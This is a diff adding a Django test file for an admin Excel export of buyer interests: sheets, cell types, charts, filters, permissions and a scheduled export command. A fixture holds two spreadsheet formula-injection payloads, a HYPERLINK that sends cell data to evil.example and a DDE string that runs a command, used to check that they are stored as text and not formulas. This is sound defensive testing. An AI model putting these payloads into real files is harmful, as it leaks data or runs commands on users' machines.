@@ -1,0 +1,176 @@
+"""The interest report workbook: sheets, types, formula safety, charts, filters, permission."""
+
+import datetime as dt
+import io
+import zipfile
+
+import openpyxl
+import pytest
+from django.contrib.auth.models import Permission, User
+from django.core import mail
+from django.core.management import call_command
+from django.urls import reverse
+
+from catalogue.models import Certification
+from matching.models import Interest
+from tests.factories import make_category, make_exporter, make_offer
+from tests.matching.helpers import interest_post, link_in
+
+pytestmark = pytest.mark.django_db
+SHEETS = ["Report", "Interests", "By category", "By state", "By month", "Matches"]
+HOSTILE = {
+    "company_name": '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
+    "contact_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+@pytest.fixture
+def interests(hs, client, committed):
+    oil = make_category(name="Sunflower oil, refined", code="151219", slug="sunflower-oil")
+    exporter = make_exporter(name="+Pavlodar Oil LLP", region="pavlodar")
+    exporter.certifications.add(Certification.objects.create(code="halal", name="Halal"))
+    make_offer(exporter=exporter, category=oil, capacity=20000, unit="t", incoterms="CIF FCA")
+    make_category(name="Durum wheat", code="100119", slug="durum-wheat")
+    line = {"category": "sunflower-oil", "product": "=1+1 refined oil", "quantity": "500.5",
+            "unit": "t", "frequency": "monthly", "incoterm": "CIF", "port": "apapa",
+            "timeframe": "-2+3"}  # fmt: skip
+    committed(client.post, "/interest/", interest_post(line, **HOSTILE))
+    committed(client.post, link_in(mail.outbox[0], "confirm"))
+    wheat = {"category": "durum-wheat", "product": "Durum wheat", "quantity": "50", "unit": "t"}
+    committed(client.post, "/interest/", interest_post(wheat, email="kano@mills.ng", state="KN"))
+    return Interest.objects.order_by("pk")
+
+
+def workbook(response):
+    content = b"".join(response.streaming_content)
+    return openpyxl.load_workbook(io.BytesIO(content)), content
+
+
+def exporter_user(client, with_permission=True):
+    user = User.objects.create_user("officer", password="pw", is_staff=True)
+    user.user_permissions.add(
+        *Permission.objects.filter(codename__in=["view_interest", "change_interest"])
+    )
+    if with_permission:
+        user.user_permissions.add(Permission.objects.get(codename="export_reports"))
+    client.force_login(user)
+    return user
+
+
+def test_export_respects_the_admin_filters_and_is_ready_to_hand_over(client, interests):
+    exporter_user(client)
+    response = client.get(reverse("admin:matching_interest_export"), {"status__exact": "confirmed"})
+    assert response.status_code == 200
+    assert response["Content-Disposition"].startswith('attachment; filename="interests-')
+    book, content = workbook(response)
+    assert book.sheetnames == SHEETS
+    rows = list(book["Interests"].iter_rows(values_only=True))
+    assert rows[0][:4] == ("Reference", "Created", "Confirmed", "Status")
+    assert len(rows) == 2  # the confirmed interest only, one product line
+    confirmed = interests.get(status="confirmed")
+    sheet = book["Interests"]
+    assert sheet["A2"].value == confirmed.reference
+    assert sheet["B2"].is_date and isinstance(sheet["B2"].value, dt.datetime)
+    assert sheet["N2"].data_type == "n" and sheet["N2"].value == 500.5
+    assert (sheet["M2"].value, sheet["M2"].data_type) == ("151219", "s")
+    assert (sheet["J2"].value, sheet["J2"].data_type) == ("+2348031234567", "s")
+    assert sheet["T2"].value == "+Pavlodar Oil LLP" and sheet["U2"].data_type == "n"
+    assert "status: confirmed" in book["Report"]["B5"].value
+    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:U2"
+
+
+def test_hostile_text_from_the_public_form_never_becomes_a_formula(client, interests):
+    exporter_user(client)
+    book, content = workbook(client.get(reverse("admin:matching_interest_export")))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    for value in [
+        *HOSTILE.values(),
+        "=1+1 refined oil",
+        "-2+3",
+        "+Pavlodar Oil LLP",
+        "+2348031234567",
+    ]:
+        found = [c for c in cells if c.value == value]
+        assert found, value
+        assert all(c.data_type == "s" and c.quotePrefix for c in found)
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        sheets_xml = " ".join(
+            archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")
+        )
+    assert "<f>" not in sheets_xml
+
+
+def test_summary_sheets_have_native_charts(client, interests):
+    exporter_user(client)
+    book, content = workbook(client.get(reverse("admin:matching_interest_export")))
+    by_category = list(book["By category"].iter_rows(values_only=True))
+    assert by_category[0][:3] == ("Category", "Product lines", "Interests")
+    assert ("Sunflower oil, refined", 1, 1, 500.5) in by_category
+    states = {row[0]: row[1] for row in book["By state"].iter_rows(min_row=2, values_only=True)}
+    assert states == {"Lagos": 1, "Kano": 1}
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        charts = [n for n in archive.namelist() if n.startswith("xl/charts/chart")]
+    assert len(charts) == 3
+
+
+def test_matches_sheet_lists_exporters_with_reasons(client, interests):
+    exporter_user(client)
+    book, _ = workbook(client.get(reverse("admin:matching_interest_export")))
+    rows = list(book["Matches"].iter_rows(min_row=2, values_only=True))
+    assert len(rows) == 1
+    reference, product, exporter, region, score, reasons, status, *_ = rows[0]
+    assert (exporter, region, status) == ("+Pavlodar Oil LLP", "Pavlodar Region", "suggested")
+    assert "Same HS code 1512.19" in reasons and "Offers CIF" in reasons
+
+
+def test_the_export_action_takes_the_selection(client, interests):
+    exporter_user(client)
+    kano = interests.get(buyer__state="KN")
+    response = client.post(
+        reverse("admin:matching_interest_changelist"),
+        {"action": "export_selected", "_selected_action": [kano.pk]},
+    )
+    book, _ = workbook(response)
+    rows = list(book["Interests"].iter_rows(min_row=2, values_only=True))
+    assert [r[6] for r in rows] == ["Kano"]
+
+
+def test_only_staff_allowed_to_export_see_and_use_it(client, interests):
+    exporter_user(client, with_permission=False)
+    listing = client.get(reverse("admin:matching_interest_changelist"))
+    action_form = listing.context["action_form"]
+    assert action_form is None or "export_selected" not in dict(
+        action_form.fields["action"].choices
+    )
+    assert "Export these to Excel" not in listing.text
+    assert client.get(reverse("admin:matching_interest_export")).status_code == 403
+    response = client.post(
+        reverse("admin:matching_interest_changelist"),
+        {"action": "export_selected", "_selected_action": [interests[0].pk]},
+    )
+    assert response.status_code != 200 or "xlsx" not in response.get("Content-Type", "")
+
+
+def test_the_scheduled_command_filters_by_date_status_and_state(interests, tmp_path):
+    out = tmp_path / "report.xlsx"
+    today = dt.date.today().isoformat()
+    call_command(
+        "export_interests", str(out), "--since", today, "--state", "Kano", stdout=io.StringIO()
+    )
+    rows = list(openpyxl.load_workbook(out)["Interests"].iter_rows(min_row=2, values_only=True))
+    assert [r[6] for r in rows] == ["Kano"]
+    call_command("export_interests", str(out), "--status", "confirmed", stdout=io.StringIO())
+    rows = list(openpyxl.load_workbook(out)["Interests"].iter_rows(min_row=2, values_only=True))
+    assert [r[3] for r in rows] == ["confirmed"]
+    call_command("export_interests", str(out), "--until", "2000-01-01", stdout=io.StringIO())
+    assert openpyxl.load_workbook(out)["Interests"].max_row == 1
+
+
+def test_the_dashboard_draws_escaped_charts(client, interests):
+    exporter_user(client)
+    page = client.get(reverse("admin:matching_interest_dashboard"))
+    assert page.status_code == 200
+    assert page.text.count('<svg xmlns="http://www.w3.org/2000/svg" width=') == 4
+    assert "Sunflower oil, refined" in page.text and "Lagos" in page.text
+    assert "<script" not in page.text.split("<svg", 1)[1]
